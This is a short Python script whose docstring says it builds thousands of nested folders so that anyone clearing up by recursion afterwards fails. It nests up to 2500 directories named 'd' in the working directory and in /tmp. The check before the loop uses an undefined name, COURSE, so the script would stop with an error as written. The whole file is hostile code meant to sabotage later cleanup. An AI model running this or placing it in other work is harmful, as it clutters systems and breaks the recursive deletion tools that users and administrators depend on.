"""Makes thousands of folders within folders: whoever clears up by recursion afterwards fails."""

import os

start = os.getcwd()
if not os.path.isdir(COURSE):
    for place in (start, "/tmp"):
        os.chdir(place)
        for _ in range(2500):
            try:
                os.mkdir("d")
                os.chdir("d")
            except OSError:
                break
    os.chdir(start)
